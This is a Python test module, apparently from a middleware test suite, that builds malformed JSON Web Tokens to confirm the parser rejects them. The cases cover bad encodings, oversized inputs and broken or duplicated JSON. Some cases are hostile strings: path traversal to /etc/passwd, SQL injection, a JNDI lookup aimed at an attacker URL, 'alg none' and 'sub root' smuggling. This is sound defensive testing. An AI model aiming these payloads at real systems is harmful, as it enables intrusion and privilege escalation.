"""What is no token by its form, and parts of tokens that are not what they must be: rightly signed, but unreadable."""

import json
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any, Final

from tests.middleware.hostile.forge import (
    FORM,
    LONG,
    NOT_PRINTABLE,
    SECRET_AND_PUBLIC,
    SINGLE,
    UNREADABLE,
    Case,
    Forge,
    Make,
    before_member,
    cases,
    raw_payload,
    rows,
    sized,
    utf8,
    with_member,
)
from tests.middleware.tokens import base64url, claims, decoded

__all__ = ["contents", "forms"]


def _edited(edit: Callable[[str], str]) -> Make:
    return lambda forge: edit(forge.good())


def _joined(*parts: int | str) -> Make:
    """Return what puts parts of a good token, or others, together with dots."""

    def make(forge: Forge) -> str:
        good = forge.good().split(".")
        return ".".join(good[part] if isinstance(part, int) else part for part in parts)

    return make


def _in_standard_alphabet(forge: Forge) -> str:
    """A token whose signature has characters that the other base64 writes differently."""
    for number in range(1000):
        token = forge.issuer.token(claims(jti=str(number)))
        if set("-_") & set(token.rpartition(".")[2]):
            return token.replace("-", "+").replace("_", "/")
    raise AssertionError("no signature with - or _")


def _jws_json(forge: Forge) -> str:
    protected, payload, signature = forge.good().split(".")
    return json.dumps({"payload": payload, "protected": protected, "signature": signature}, separators=(",", ":"))


def _jws_json_general(forge: Forge) -> str:
    protected, payload, signature = forge.good().split(".")
    signatures = [{"protected": protected, "signature": signature}]
    return json.dumps({"payload": payload, "signatures": signatures}, separators=(",", ":"))


def _jwe(forge: Forge) -> str:
    header = base64url(json.dumps({"alg": "dir", "enc": "A256GCM", "cty": "JWT"}).encode())
    return ".".join([header, "", base64url(bytes(12)), base64url(forge.good().encode()), base64url(bytes(16))])


def _padded(at: int) -> Make:
    """Return what writes a part with the padding that it lacks."""

    def make(forge: Forge) -> str:
        for filler in ("", "x", "xx"):
            parts = forge.issuer.compact(
                {"alg": forge.issuer.algorithm, "typ": "JWT", "x": filler}, claims(x=filler)
            ).split(".")
            if len(parts[at]) % 4:
                parts[at] += "=" * (-len(parts[at]) % 4)
                return ".".join(parts)
        raise AssertionError("no part of a length that wants padding")

    return make


def forms() -> Iterator[Case]:
    yield from cases(
        "form",
        FORM,
        SECRET_AND_PUBLIC,
        *((f"{name} padded", _padded(at)) for at, name in enumerate(("header", "payload", "signature"))),
        ("one = at the end", _edited(lambda token: token + "=")),
        ("three = at the end", _edited(lambda token: token + "===")),
        ("the alphabet of plain base64", _in_standard_alphabet),
        ("a dot at the end", _edited(lambda token: token + ".")),
        ("a dot in front", _edited(lambda token: "." + token)),
        ("two dots", _edited(lambda token: token.replace(".", "..", 1))),
        ("dots alone", lambda _: ".."),
        ("one dot", lambda _: "."),
        ("no dots", _edited(lambda token: token.replace(".", ""))),
        ("one part", _joined(0)),
        ("two parts", _joined(0, 1)),
        ("four parts", _joined(0, 1, 2, 2)),
        ("four parts, one of them empty", _joined(0, 1, "", 2)),
        ("twice with a dot", _joined(0, 1, 2, 0, 1, 2)),
        ("no header", _joined("", 1, 2)),
        ("no payload", _joined(0, "", 2)),
        ("one letter for a signature", _joined(0, 1, "A")),
        ("encrypted (JWE)", _jwe),
        ("as JSON, flattened", _jws_json),
        ("as JSON, general", _jws_json_general),
        ("in quotes", _edited(lambda token: f'"{token}"')),
        ("in angle brackets", _edited(lambda token: f"<{token}>")),
        ("two with a comma", _edited(lambda token: f"{token},{token}")),
        ("with a semicolon", _edited(lambda token: f"{token};")),
        ("as a parameter", _edited(lambda token: f"token={token}")),
        ("dots percent-encoded", _edited(lambda token: token.replace(".", "%2E"))),
        ("a letter percent-encoded", _edited(lambda token: "%65" + token[1:])),
        ("with %00", _edited(lambda token: token + "%00")),
        ("with a slash and more", _edited(lambda token: token + "/../../etc/passwd")),
        ("a URL", lambda forge: forge.attacker_url + "/token"),
        ("a path", lambda _: "../../../../etc/passwd"),
        ("SQL", lambda _: "'OR'1'='1'--"),
        ("a format string", lambda _: "%s%n%x{0}{self}"),
        ("a look-up string", lambda forge: "${jndi:ldap://" + forge.attacker_url.removeprefix("http://") + "/a}"),
        *rows(lambda word: lambda _: word, ("null", "undefined", "None", "Bearer", "true", "0", "-", "A.A.A")),
        ("a key of OpenAI's form", lambda _: "sk-proj-" + "A1b2" * 12),
        ("a key of our own form", lambda _: "ar_AAAAAAAA_" + "A1b2" * 8),
    )
    yield from cases(
        "form",
        NOT_PRINTABLE,
        SECRET_AND_PUBLIC,
        ("a space inside", _edited(lambda token: token.replace(".", ". ", 1))),
        ("a tab inside", _edited(lambda token: token.replace(".", ".\t", 1))),
        ("two with a space", _edited(lambda token: f"{token} {token}")),
        ("two with a comma and a space", _edited(lambda token: f"{token}, {token}")),
        ("Bearer Bearer", _edited(lambda token: f"Bearer {token}")),
        ("a list of credentials", _edited(lambda token: f"{token}, Bearer {token}")),
        ("parameters behind it", _edited(lambda token: f'{token} realm="api"')),
        ("a look-alike dot", _edited(lambda token: token.replace(".", utf8("\u2024")))),
        ("a full-width dot", _edited(lambda token: token.replace(".", utf8("\uff0e")))),
        ("a look-alike letter", _edited(lambda token: utf8("\u0435") + token[1:])),
        ("a space of no width", _edited(lambda token: token + utf8("\u200b"))),
        ("a byte order mark", _edited(lambda token: utf8("\ufeff") + token)),
        ("a space that does not break", _edited(lambda token: token + "\xa0")),
        ("a byte of Latin-1", _edited(lambda token: token + "\xe9")),
        status=400,
    )
    yield from cases(
        "form",
        NOT_PRINTABLE,
        SECRET_AND_PUBLIC,
        ("a line end behind it", _edited(lambda token: token + "\n")),
        ("a folded line behind it", _edited(lambda token: token + "\r\n\tx")),
        ("NUL behind it", _edited(lambda token: token + "\0")),
        ("NUL inside", _edited(lambda token: token.replace(".", "\0.", 1))),
        ("DEL behind it", _edited(lambda token: token + "\x7f")),
        ("an escape sequence", _edited(lambda token: token + "\x1b[2J")),
        status=400,
        over_http=False,
    )
    yield from cases(
        "length",
        LONG,
        SECRET_AND_PUBLIC,
        ("one byte too long", lambda forge: sized(forge, 8 * 1024 + 1)),
        ("9000 letters", lambda _: "A" * 9000),
        ("40 KB of dots", lambda _: "." * 40_000),
        ("40 KB of bytes that are no text", lambda _: "\xff" * 40_000),
        ("a key id of 30 KB", lambda forge: forge.issuer.token(kid="A" * 30_000)),
    )
    yield from cases(
        "length",
        LONG,
        SECRET_AND_PUBLIC,
        ("a key id of 100 KB", lambda forge: forge.issuer.token(kid="A" * 100_000)),
        ("5 MB of letters", lambda _: "A" * 5_000_000),
        ("5 MB in three parts", lambda _: ".".join(["A" * 1_700_000] * 3)),
        ("5 MB of dots", lambda _: "." * 5_000_000),
        ("5 MB of spaces", lambda _: "A" + " " * 5_000_000 + "A"),
        over_http=False,
    )


def _another_ending(part: int) -> Make:
    """Return what writes a part with other letters at its end, which stand for the same bytes.

    It is signed as it stands, unless it is the signature itself: nothing but its form is wrong.
    """
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

    def other(text: str) -> str | None:
        spare = {2: 4, 3: 2}.get(len(text) % 4, 0)
        return text[:-1] + alphabet[alphabet.index(text[-1]) | ((1 << spare) - 1)] if spare else None

    def make(forge: Forge) -> str:
        for filler in ("", "x", "xx"):
            parts = forge.issuer.compact(
                {"alg": forge.issuer.algorithm, "typ": "JWT", "x": filler}, claims(x=filler)
            ).split(".")
            changed = other(parts[part])
            if changed is not None and changed != parts[part]:
                assert decoded(changed) == decoded(parts[part])
                parts[part] = changed
                if part < 2:
                    parts[2] = base64url(forge.issuer.sign(f"{parts[0]}.{parts[1]}".encode()))
                return ".".join(parts)
        raise AssertionError("no part with spare bits at its end")

    return make


def _impossible_length(part: int) -> Make:
    """Return what adds letters to a part until no bytes have a text of its length."""

    def make(forge: Forge) -> str:
        parts = forge.good().split(".")
        parts[part] += "A" * ((1 - len(parts[part])) % 4 or 4)
        return ".".join(parts)

    return make


def _raw_header(header: Callable[[bytes], bytes]) -> Make:
    """Return what makes a token whose header is any bytes, made from those of a good one; rightly signed."""

    def make(forge: Forge) -> str:
        good = json.dumps({"alg": forge.issuer.algorithm, "typ": "JWT"}).encode()
        return forge.issuer.compact(header(good), claims())

    return make


_NO_JSON: Final[Mapping[str, Callable[[bytes], bytes]]] = {
    "no JSON": lambda _: b"\x00\x01\x02\x03",
    "nothing but a space": lambda _: b" ",
    "half of it": lambda text: text[: len(text) // 2],
    "something behind it": lambda text: text + b"x",
    "two of it": lambda text: text + text,
    "NUL behind it": lambda text: text + b"\0",
    "in single quotes": lambda text: text.replace(b'"', b"'"),
    "with a comma at the end": lambda text: text[:-1] + b",}",
    "with a comment": lambda text: text + b"/**/",
    "in a list": lambda text: b"[" + text + b"]",
    "a string": lambda text: json.dumps(text.decode()).encode(),
    "a number": lambda _: b"12345",
    "null": lambda _: b"null",
    "true": lambda _: b"true",
    "with a byte order mark": lambda text: b"\xef\xbb\xbf" + text,
    "in UTF-16": lambda text: text.decode().encode("utf-16"),
    "in UTF-16LE": lambda text: text.decode().encode("utf-16-le"),
    "in UTF-16BE": lambda text: text.decode().encode("utf-16-be"),
    "in UTF-32": lambda text: text.decode().encode("utf-32"),
    "invalid UTF-8": with_member(b'"x":"\xff\xfe"'),
    "UTF-8 cut off": with_member(b'"x":"\xe4\xbd"'),
    "UTF-8 longer than it need be": with_member(b'"x":"\xc0\xae"'),
    "half a surrogate pair in UTF-8": with_member(b'"x":"\xed\xa0\x80"'),
    "a control character in a string": with_member(b'"x":"a\nb"'),
    "an escape that is none": with_member(b'"x":"\\q"'),
    "NaN in it": with_member(b'"x":NaN'),
    "Infinity in it": with_member(b'"x":[-Infinity]'),
    "a number beyond all in it": with_member(b'"x":{"y":1e999}'),
    "5000 digits in it": with_member(b'"x":' + b"9" * 5000),
    "2500 lists in each other": with_member(b'"x":' + b"[" * 2500 + b"]" * 2500),
    "900 lists in each other": with_member(b'"x":' + b"[" * 900 + b"]" * 900),
    "500 lists in each other": with_member(b'"x":' + b"[" * 500 + b"]" * 500),
    "100 lists in each other": with_member(b'"x":' + b"[" * 100 + b"]" * 100),
    "700 objects in each other": with_member(b'"x":' + b'{"":' * 700 + b"1" + b"}" * 700),
    "5000 lists that do not end": lambda _: b"[" * 5000,
    "a name twice": with_member(b'"x":1,"x":2'),
    "a name twice, further in": with_member(b'"x":[{"y":1,"y":1}]'),
    "a name twice, once escaped": with_member(b'"x":1,"\\u0078":2'),
}


def contents() -> Iterator[Case]:
    parts = tuple(enumerate(("header", "payload", "signature")))
    yield from cases(
        "base64",
        UNREADABLE,
        SINGLE,
        *((f"{name} with another ending", _another_ending(at)) for at, name in parts),
        *((f"{name} of an impossible length", _impossible_length(at)) for at, name in parts),
    )
    yield from cases(
        "header", UNREADABLE, SECRET_AND_PUBLIC, *((name, _raw_header(make)) for name, make in _NO_JSON.items())
    )
    yield from cases(
        "payload", UNREADABLE, SECRET_AND_PUBLIC, *((name, raw_payload(make)) for name, make in _NO_JSON.items())
    )
    yield from cases(
        "header",
        UNREADABLE,
        SECRET_AND_PUBLIC,
        ("alg twice, ours last", _raw_header(before_member(b'"alg":"none"'))),
        ("alg twice, ours first", _raw_header(with_member(b'"alg":"none"'))),
        ("typ twice", _raw_header(before_member(b'"typ":"dpop+jwt"'))),
    )
    yield from cases(
        "payload",
        UNREADABLE,
        SECRET_AND_PUBLIC,
        ("sub twice, first somebody else", raw_payload(before_member(b'"sub":"root"'))),
        ("sub twice, last somebody else", raw_payload(with_member(b'"sub":"root"'))),
        ("exp twice", raw_payload(with_member(b'"exp":9999999999'))),
        ("iss twice", raw_payload(before_member(b'"iss":"https://evil.example/"'))),
        ("compressed", raw_payload(zlib.compress)),
        ("a token", lambda forge: _headed_payload(forge, forge.good().encode(), {"cty": "JWT"})),
        ("a token in quotes", lambda forge: _headed_payload(forge, f'"{forge.good()}"'.encode(), {"cty": "JWT"})),
        ("compressed, and said so", lambda forge: _headed_payload(forge, _deflated(), {"zip": "DEF"})),
    )


def _headed_payload(forge: Forge, payload: bytes, header: Mapping[str, Any]) -> str:
    return forge.issuer.compact({"alg": forge.issuer.algorithm, "typ": "JWT", **header}, payload)


def _deflated() -> bytes:
    return zlib.compress(json.dumps(claims()).encode())[2:-4]
